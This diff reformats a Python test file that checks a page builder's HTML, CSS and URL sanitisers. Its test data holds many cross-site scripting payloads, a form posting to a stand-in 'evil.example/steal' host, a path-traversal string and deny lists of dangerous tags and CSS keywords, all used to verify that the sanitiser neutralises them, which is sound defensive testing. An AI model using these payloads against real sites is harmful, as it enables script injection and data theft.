@@ -44,8 +44,12 @@ XSS_HTML: list[tuple[str, str, bool]] = [
     ("body onload", '<body onload="window.__xss=1"><p>hi</p></body>', True),
     ("svg onload", '<svg onload="window.__xss=1"><circle r="4"/></svg>', True),
     ("svg with script", "<svg><script>window.__xss=1</script></svg>", True),
-    ("svg animate href", '<svg><a><animate attributeName="href" '
-     'values="javascript:window.__xss=1"/><text>x</text></a></svg>', True),
+    (
+        "svg animate href",
+        '<svg><a><animate attributeName="href" '
+        'values="javascript:window.__xss=1"/><text>x</text></a></svg>',
+        True,
+    ),
     ("javascript link", '<a href="javascript:window.__xss=1">x</a>', True),
     ("javascript link mixed case", '<a href="JaVaScRiPt:window.__xss=1">x</a>', True),
     ("javascript link entities", '<a href="&#106;&#97;vascript:window.__xss=1">x</a>', True),
@@ -68,25 +72,48 @@ XSS_HTML: list[tuple[str, str, bool]] = [
     ("broken script nesting", "<scr<script>ipt>window.__xss=1</scr</script>ipt>", False),
     ("img inside attribute", '<p title="<img src=x onerror=window.__xss=1>">t</p>', False),
     ("unclosed attribute", '<img src="x" alt="a onerror=window.__xss=1 ">', False),
-    ("details ontoggle", '<details open ontoggle="window.__xss=1"><summary>s</summary></details>',
-     True),
-    ("form injection", '<form action="https://evil.example/steal"><input name="code">'
-     '<button formaction="javascript:window.__xss=1">Go</button></form>', True),
+    (
+        "details ontoggle",
+        '<details open ontoggle="window.__xss=1"><summary>s</summary></details>',
+        True,
+    ),
+    (
+        "form injection",
+        '<form action="https://evil.example/steal"><input name="code">'
+        '<button formaction="javascript:window.__xss=1">Go</button></form>',
+        True,
+    ),
     ("input autofocus", '<input autofocus onfocus="window.__xss=1">', True),
     ("textarea breakout", "<textarea></textarea><script>window.__xss=1</script>", True),
-    ("noscript breakout", '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">'
-     "</noscript>", False),
-    ("mxss math style", "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
-     True),
+    (
+        "noscript breakout",
+        '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>"></noscript>',
+        False,
+    ),
+    (
+        "mxss math style",
+        "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>",
+        True,
+    ),
     ("template", "<template><img src=x onerror=window.__xss=1></template>", True),
     ("comment breakout", "<!--<img src=x onerror=window.__xss=1>-->", True),
     ("cdata", "<![CDATA[<img src=x onerror=window.__xss=1>]]>", False),
-    ("dynamic placeholder with handler", '<div data-cp-block="catalogue" '
-     'onmouseover="window.__xss=1"></div>', True),
-    ("embed block with javascript", '<div data-cp-block="embed" '
-     'data-url="javascript:window.__xss=1"></div>', True),
-    ("placeholder breakout attempt", '<div data-cp-block="course" data-course="1">'
-     '<p title="</div><img src=x onerror=window.__xss=1>">x</p></div>', False),
+    (
+        "dynamic placeholder with handler",
+        '<div data-cp-block="catalogue" onmouseover="window.__xss=1"></div>',
+        True,
+    ),
+    (
+        "embed block with javascript",
+        '<div data-cp-block="embed" data-url="javascript:window.__xss=1"></div>',
+        True,
+    ),
+    (
+        "placeholder breakout attempt",
+        '<div data-cp-block="course" data-course="1">'
+        '<p title="</div><img src=x onerror=window.__xss=1>">x</p></div>',
+        False,
+    ),
 ]
 
 XSS_CSS: list[tuple[str, str]] = [
@@ -126,10 +153,39 @@ class _Inventory(HTMLParser):
         self.comments.append(data)
 
 
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href",
-                  "background", "poster", "srcset", "codebase", "dynsrc", "lowsrc"}
-FORBIDDEN_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "meta", "base",
-                  "link", "style", "svg", "math", "template", "textarea", "select", "noscript"}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "data",
+    "srcdoc",
+    "xlink:href",
+    "background",
+    "poster",
+    "srcset",
+    "codebase",
+    "dynsrc",
+    "lowsrc",
+}
+FORBIDDEN_TAGS = {
+    "script",
+    "iframe",
+    "frame",
+    "object",
+    "embed",
+    "applet",
+    "meta",
+    "base",
+    "link",
+    "style",
+    "svg",
+    "math",
+    "template",
+    "textarea",
+    "select",
+    "noscript",
+}
 
 
 def assert_inert(fragment: str, *, allow_redeem_form: bool = False) -> None:
@@ -156,8 +212,19 @@ def assert_inert(fragment: str, *, allow_redeem_form: bool = False) -> None:
 
 def assert_css_inert(css: str) -> None:
     lowered = css.lower()
-    for word in ("expression", "javascript", "@import", "behavior", "binding", "<", "</style",
-                 "evil.example", "image-set", "position:fixed", "__xss"):
+    for word in (
+        "expression",
+        "javascript",
+        "@import",
+        "behavior",
+        "binding",
+        "<",
+        "</style",
+        "evil.example",
+        "image-set",
+        "position:fixed",
+        "__xss",
+    ):
         assert word not in lowered, (word, css)
 
 
@@ -165,8 +232,9 @@ def assert_css_inert(css: str) -> None:
 
 
 @pytest.mark.django_db
-@pytest.mark.parametrize(("name", "payload", "code_removed"), XSS_HTML,
-                         ids=[c[0] for c in XSS_HTML])
+@pytest.mark.parametrize(
+    ("name", "payload", "code_removed"), XSS_HTML, ids=[c[0] for c in XSS_HTML]
+)
 def test_xss_html_saved_published_and_rendered_is_inert(
     name: str, payload: str, code_removed: bool, make_school: Any, client_for: Any
 ) -> None:
@@ -175,9 +243,26 @@ def test_xss_html_saved_published_and_rendered_is_inert(
     client = logged_in(client_for, owner)
     page = home_page(school)
     html = f'<h2 id="probe">Probe</h2>{payload}'
-    project = {"pages": [{"frames": [{"component": {"type": "wrapper", "components": [
-        {"type": "text", "content": payload}, {"tagName": "img", "attributes": {
-            "src": "x", "onerror": "window.__xss=1"}}]}}]}]}
+    project = {
+        "pages": [
+            {
+                "frames": [
+                    {
+                        "component": {
+                            "type": "wrapper",
+                            "components": [
+                                {"type": "text", "content": payload},
+                                {
+                                    "tagName": "img",
+                                    "attributes": {"src": "x", "onerror": "window.__xss=1"},
+                                },
+                            ],
+                        }
+                    }
+                ]
+            }
+        ]
+    }
     assert save_draft(client, page.pk, html=html, css="", project=project).status_code == 200
     stored = reload(page)
     assert_inert(stored.draft_html)
@@ -203,7 +288,7 @@ def test_xss_html_saved_published_and_rendered_is_inert(
             assert response.status_code == 200
             body = main_html(response)
             # What renders into the page: the builder's container, not our own forms.
-            page_html = body[body.index('<div class="cp-page"'):]
+            page_html = body[body.index('<div class="cp-page"') :]
             assert_inert(page_html)
             if code_removed:
                 assert "__xss" not in page_html
@@ -232,8 +317,9 @@ def test_xss_css_saved_published_and_rendered_is_inert(
     # Nothing was able to close the <style> element early or smuggle script in.
     assert "__xss" not in text
     assert text.count("<script") == text.count("<script src=") + text.count(
-        '<script type="application/json"')
-    assert_inert(main_html(response)[main_html(response).index('<div class="cp-page"'):])
+        '<script type="application/json"'
+    )
+    assert_inert(main_html(response)[main_html(response).index('<div class="cp-page"') :])
 
 
 @pytest.mark.django_db
@@ -245,10 +331,11 @@ def test_row_edited_behind_our_back_is_sanitised_on_render(
     page = home_page(created.school)
     with school_context(created.school):
         PageRevision.objects.filter(pk=page.published_revision_id or 0).update(
-            html='<p id="ok">ok</p><img src=x onerror="window.__xss=1"><script>x()</script>')
+            html='<p id="ok">ok</p><img src=x onerror="window.__xss=1"><script>x()</script>'
+        )
         type(page).objects.filter(pk=page.pk).update(
             published_html='<p id="ok">ok</p><img src=x onerror="window.__xss=1">'
-                           "<script>window.__xss=1</script>",
+            "<script>window.__xss=1</script>",
             published_css="#ok{color:red}</style><script>window.__xss=1</script>",
         )
     response = client_for("alpha.localhost").get("/")
@@ -260,53 +347,66 @@ def test_row_edited_behind_our_back_is_sanitised_on_render(
 # --- the sanitisers themselves ---------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    ("/courses/", "/courses/"),
-    ("#redeem", "#redeem"),
-    ("https://example.com/a?b=c", "https://example.com/a?b=c"),
-    ("mailto:hello@example.com", "mailto:hello@example.com"),
-    ("tel:+4412345", "tel:+4412345"),
-    ("about/", "about/"),
-    ("javascript:alert(1)", None),
-    (" JAVASCRIPT:alert(1)", None),
-    ("java\tscript:alert(1)", None),
-    ("data:text/html,x", None),
-    ("vbscript:x", None),
-    ("\\\\evil.example", None),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("/courses/", "/courses/"),
+        ("#redeem", "#redeem"),
+        ("https://example.com/a?b=c", "https://example.com/a?b=c"),
+        ("mailto:hello@example.com", "mailto:hello@example.com"),
+        ("tel:+4412345", "tel:+4412345"),
+        ("about/", "about/"),
+        ("javascript:alert(1)", None),
+        (" JAVASCRIPT:alert(1)", None),
+        ("java\tscript:alert(1)", None),
+        ("data:text/html,x", None),
+        ("vbscript:x", None),
+        ("\\\\evil.example", None),
+    ],
+)
 def test_safe_href(value: str, expected: str | None) -> None:
     assert safe_href(value) == expected
 
 
-@pytest.mark.parametrize(("value", "ok"), [
-    ("/site-media/0123456789abcdef0123456789abcdef.png", True),
-    ("/branding/logo?v=abc", True),
-    ("/static/dist/fonts/x.woff2", True),
-    ("https://evil.example/x.png", False),
-    ("//evil.example/x.png", False),
-    ("/site-media/../../etc/passwd", False),
-    ("/site-media/%2e%2e/x", False),
-    ("data:image/png;base64,AAAA", False),
-    ("/p/about/", False),
-])
+@pytest.mark.parametrize(
+    ("value", "ok"),
+    [
+        ("/site-media/0123456789abcdef0123456789abcdef.png", True),
+        ("/branding/logo?v=abc", True),
+        ("/static/dist/fonts/x.woff2", True),
+        ("https://evil.example/x.png", False),
+        ("//evil.example/x.png", False),
+        ("/site-media/../../etc/passwd", False),
+        ("/site-media/%2e%2e/x", False),
+        ("data:image/png;base64,AAAA", False),
+        ("/p/about/", False),
+    ],
+)
 def test_safe_image_src(value: str, ok: bool) -> None:
     assert (safe_image_src(value) is not None) is ok
 
 
-@pytest.mark.parametrize(("value", "expected"), [
-    ("https://www.youtube.com/watch?v=dQw4w9WgXcQ",
-     "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
-    ("https://youtu.be/dQw4w9WgXcQ?t=3", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
-    ("youtube.com/shorts/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
-    ("https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
-     "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
-    ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871"),
-    ("https://player.vimeo.com/video/76979871", "https://player.vimeo.com/video/76979871"),
-    ("https://evil.example/embed/dQw4w9WgXcQ", None),
-    ("javascript:alert(1)", None),
-    ("https://www.youtube.com/watch?v=<script>", None),
-    ("https://user:pw@www.youtube.com/watch?v=dQw4w9WgXcQ", None),
-])
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        (
+            "https://www.youtube.com/watch?v=dQw4w9WgXcQ",
+            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
+        ),
+        ("https://youtu.be/dQw4w9WgXcQ?t=3", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
+        ("youtube.com/shorts/dQw4w9WgXcQ", "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"),
+        (
+            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
+            "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ",
+        ),
+        ("https://vimeo.com/76979871", "https://player.vimeo.com/video/76979871"),
+        ("https://player.vimeo.com/video/76979871", "https://player.vimeo.com/video/76979871"),
+        ("https://evil.example/embed/dQw4w9WgXcQ", None),
+        ("javascript:alert(1)", None),
+        ("https://www.youtube.com/watch?v=<script>", None),
+        ("https://user:pw@www.youtube.com/watch?v=dQw4w9WgXcQ", None),
+    ],
+)
 def test_normalize_embed_url(value: str, expected: str | None) -> None:
     assert normalize_embed_url(value) == expected
 
@@ -315,7 +415,7 @@ def test_css_keeps_ordinary_builder_styles_and_scopes_them() -> None:
     css = (
         "* { box-sizing: border-box; } body {margin: 0;}"
         "#i3kd{color:#0e7490;background-image:url('/site-media/abc.png');padding:10px 2%}"
-        ".cp-hero:hover > .cp-title, body .x{font-family:\"Lora Variable\",serif !important}"
+        '.cp-hero:hover > .cp-title, body .x{font-family:"Lora Variable",serif !important}'
         "@media (max-width: 480px){#i3kd{display:none;grid-template-columns:repeat(2,1fr)}}"
         "#k{background:linear-gradient(90deg,var(--school-primary),#fff);width:calc(100% - 2rem)}"
     )
@@ -331,8 +431,10 @@ def test_css_keeps_ordinary_builder_styles_and_scopes_them() -> None:
 
 
 def test_css_drops_unknown_properties_and_at_rules() -> None:
-    cleaned = sanitize_css("#a{color:red;-webkit-user-modify:read-write;zoom:5}"
-                           "@keyframes x{from{color:red}}@namespace svg url(x);@charset 'x';")
+    cleaned = sanitize_css(
+        "#a{color:red;-webkit-user-modify:read-write;zoom:5}"
+        "@keyframes x{from{color:red}}@namespace svg url(x);@charset 'x';"
+    )
     assert cleaned == "#a{color:red}"
 
 
@@ -346,14 +448,18 @@ def test_html_keeps_builder_markup() -> None:
         '<section class="cp-hero" id="i8x"><div class="cp-container"><h1 class="cp-title">Hi'
         '</h1><a class="cp-btn cp-btn--primary" href="/courses/" target="_blank">Go</a>'
         '<img class="cp-image" src="/site-media/0123456789abcdef0123456789abcdef.png" alt="A">'
-        '<details open><summary>Q</summary><p>A</p></details>'
+        "<details open><summary>Q</summary><p>A</p></details>"
         '<div data-cp-block="course" data-course="12"></div></div></section>'
     )
     cleaned = sanitize_page_html(html)
-    for kept in ('class="cp-hero" id="i8x"', '<h1 class="cp-title">Hi</h1>',
-                 'href="/courses/" target="_blank" rel="noopener noreferrer"',
-                 'src="/site-media/0123456789abcdef0123456789abcdef.png" alt="A"',
-                 "<details open", '<div data-cp-block="course" data-course="12"></div>'):
+    for kept in (
+        'class="cp-hero" id="i8x"',
+        '<h1 class="cp-title">Hi</h1>',
+        'href="/courses/" target="_blank" rel="noopener noreferrer"',
+        'src="/site-media/0123456789abcdef0123456789abcdef.png" alt="A"',
+        "<details open",
+        '<div data-cp-block="course" data-course="12"></div>',
+    ):
         assert kept in cleaned, kept
 
 
@@ -383,47 +489,94 @@ def test_project_sanitiser_keeps_structure_and_drops_code() -> None:
         "symbols": [{"evil": True}],
         "dataSources": [{"id": "x"}],
         "styles": [
-            {"selectors": ["#i1"], "style": {"color": "red", "behavior": "url(x)",
-                                             "background": "url(javascript:alert(1))"}},
-            {"selectors": [{"name": "cp-hero"}], "state": "hover",
-             "mediaText": "(max-width: 480px)", "atRuleType": "media",
-             "style": {"padding": "2rem !important"}},
+            {
+                "selectors": ["#i1"],
+                "style": {
+                    "color": "red",
+                    "behavior": "url(x)",
+                    "background": "url(javascript:alert(1))",
+                },
+            },
+            {
+                "selectors": [{"name": "cp-hero"}],
+                "state": "hover",
+                "mediaText": "(max-width: 480px)",
+                "atRuleType": "media",
+                "style": {"padding": "2rem !important"},
+            },
             {"selectors": [], "selectorsAdd": "body</style><script>", "style": {"color": "red"}},
         ],
-        "pages": [{"id": "p1", "frames": [{"component": {
-            "type": "wrapper",
-            "attributes": {"onload": "x()"},
-            "components": [
-                {"type": "text", "tagName": "h1", "content": "<b>Hi</b><img src=x onerror=x()>",
-                 "script": "alert(1)", "icon": "<img src=x onerror=alert(1)>",
-                 "name": "<img src=x onerror=alert(1)>", "classes": ["cp-title", {"name": "ok"},
-                                                                     "bad class<"]},
-                {"type": "script", "content": "alert(1)"},
-                {"tagName": "iframe", "attributes": {"src": "javascript:alert(1)"}},
-                {"type": "image", "src": "javascript:alert(1)",
-                 "attributes": {"src": "/site-media/abc.png", "onerror": "alert(1)"}},
-                {"type": "textnode", "content": "a <b> c"},
-                {"type": "cp-dynamic", "attributes": {"data-cp-block": "course",
-                                                      "data-course": "7"}},
-                {"type": "link", "attributes": {"href": "javascript:alert(1)"},
-                 "components": [{"type": "textnode", "content": "x"}]},
-            ],
-        }}]}],
+        "pages": [
+            {
+                "id": "p1",
+                "frames": [
+                    {
+                        "component": {
+                            "type": "wrapper",
+                            "attributes": {"onload": "x()"},
+                            "components": [
+                                {
+                                    "type": "text",
+                                    "tagName": "h1",
+                                    "content": "<b>Hi</b><img src=x onerror=x()>",
+                                    "script": "alert(1)",
+                                    "icon": "<img src=x onerror=alert(1)>",
+                                    "name": "<img src=x onerror=alert(1)>",
+                                    "classes": ["cp-title", {"name": "ok"}, "bad class<"],
+                                },
+                                {"type": "script", "content": "alert(1)"},
+                                {"tagName": "iframe", "attributes": {"src": "javascript:alert(1)"}},
+                                {
+                                    "type": "image",
+                                    "src": "javascript:alert(1)",
+                                    "attributes": {
+                                        "src": "/site-media/abc.png",
+                                        "onerror": "alert(1)",
+                                    },
+                                },
+                                {"type": "textnode", "content": "a <b> c"},
+                                {
+                                    "type": "cp-dynamic",
+                                    "attributes": {"data-cp-block": "course", "data-course": "7"},
+                                },
+                                {
+                                    "type": "link",
+                                    "attributes": {"href": "javascript:alert(1)"},
+                                    "components": [{"type": "textnode", "content": "x"}],
+                                },
+                            ],
+                        }
+                    }
+                ],
+            }
+        ],
     }
     clean = sanitize_project(project)
     dumped = json.dumps(clean)
-    for bad in ("onerror", "onload", "javascript", "behavior", "script", "icon", "iframe",
-                "evil", "symbols", "dataSources", "</style"):
+    for bad in (
+        "onerror",
+        "onload",
+        "javascript",
+        "behavior",
+        "script",
+        "icon",
+        "iframe",
+        "evil",
+        "symbols",
+        "dataSources",
+        "</style",
+    ):
         assert bad not in dumped, bad
     wrapper = clean["pages"][0]["frames"][0]["component"]
     kinds = [c["type"] for c in wrapper["components"]]
     assert kinds == ["text", "image", "textnode", "cp-dynamic", "link"]
     assert wrapper["components"][0]["content"] == "<b>Hi</b><img>"
     assert wrapper["components"][0]["classes"] == ["cp-title", "ok"]
-    assert wrapper["components"][1] == {"type": "image",
-                                        "attributes": {"src": "/site-media/abc.png"}}
-    assert wrapper["components"][3]["attributes"] == {"data-cp-block": "course",
-                                                      "data-course": "7"}
+    assert wrapper["components"][1] == {
+        "type": "image",
+        "attributes": {"src": "/site-media/abc.png"},
+    }
+    assert wrapper["components"][3]["attributes"] == {"data-cp-block": "course", "data-course": "7"}
     assert clean["styles"][0]["style"] == {"color": "red"}
     assert clean["styles"][1]["style"] == {"padding": "2rem !important"}
     assert len(clean["styles"]) == 2
@@ -444,14 +597,45 @@ def test_project_sanitiser_refuses_absurd_nesting() -> None:
 # --- properties ------------------------------------------------------------------------------
 
 _fragments = st.lists(
-    st.sampled_from([
-        "<p>", "</p>", "<div>", "</div>", '<div data-cp-block="catalogue">',
-        '<div data-cp-block="course" data-course="3">', "<img src=x onerror=alert(1)>",
-        "<script>", "</script>", "<style>", "</style>", '<a href="javascript:x">', "</a>",
-        "<svg>", "<math>", "<noscript>", "<iframe>", "<textarea>", "<!--", "-->", "<br>",
-        "text", "&amp;", "&lt;", '"', "'", ">", "<", "<title>", '<p title="</div>">',
-        "<table>", "<td>", "<select>", "<template>", "<xmp>",
-    ]),
+    st.sampled_from(
+        [
+            "<p>",
+            "</p>",
+            "<div>",
+            "</div>",
+            '<div data-cp-block="catalogue">',
+            '<div data-cp-block="course" data-course="3">',
+            "<img src=x onerror=alert(1)>",
+            "<script>",
+            "</script>",
+            "<style>",
+            "</style>",
+            '<a href="javascript:x">',
+            "</a>",
+            "<svg>",
+            "<math>",
+            "<noscript>",
+            "<iframe>",
+            "<textarea>",
+            "<!--",
+            "-->",
+            "<br>",
+            "text",
+            "&amp;",
+            "&lt;",
+            '"',
+            "'",
+            ">",
+            "<",
+            "<title>",
+            '<p title="</div>">',
+            "<table>",
+            "<td>",
+            "<select>",
+            "<template>",
+            "<xmp>",
+        ]
+    ),
     max_size=30,
 ).map("".join)
 
@@ -469,8 +653,11 @@ def test_sanitising_is_idempotent_and_placeholders_stay_safe(html: str) -> None:
 
 
 @settings(max_examples=200, deadline=None)
-@given(st.text(alphabet=st.sampled_from(list("#.a{}:;()<>/\"'@ \\-urlimpotexsn*!0123456789")),
-               max_size=120))
+@given(
+    st.text(
+        alphabet=st.sampled_from(list("#.a{}:;()<>/\"'@ \\-urlimpotexsn*!0123456789")), max_size=120
+    )
+)
 def test_css_output_is_idempotent_and_never_contains_lt(css: str) -> None:
     cleaned = sanitize_css(css)
     assert "<" not in cleaned
